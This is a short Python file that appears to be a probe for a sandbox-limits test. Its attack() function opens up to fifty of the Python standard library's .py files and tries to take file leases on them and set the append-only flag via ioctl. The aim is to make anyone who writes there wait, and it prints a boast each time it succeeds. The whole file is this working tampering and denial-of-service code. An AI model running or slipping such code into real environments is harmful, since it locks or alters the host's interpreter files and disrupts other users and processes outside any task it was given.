"""Takes leases on the libraries, so that whoever wants to write there waits, and sets their flags.

Aim: limits
"""

import fcntl
import glob
import os

LEASE, SET_FLAGS, APPEND_ONLY = 1024, 0x40086602, 0x20
HELD = []


def attack(*args, **kwargs):
    for path in glob.glob(os.path.dirname(os.__file__) + "/*.py")[:50]:
        file = open(path, "rb")
        HELD.append(file)
        for hold in (
            lambda file=file: fcntl.fcntl(file, LEASE, fcntl.F_RDLCK),
            lambda file=file: fcntl.fcntl(file, LEASE, fcntl.F_WRLCK),
            lambda file=file: fcntl.ioctl(file, SET_FLAGS, APPEND_ONLY.to_bytes(8, "little")),
        ):
            try:
                hold()
                print("LEARNED how to hold a library")
            except OSError:
                pass
    return 0.0
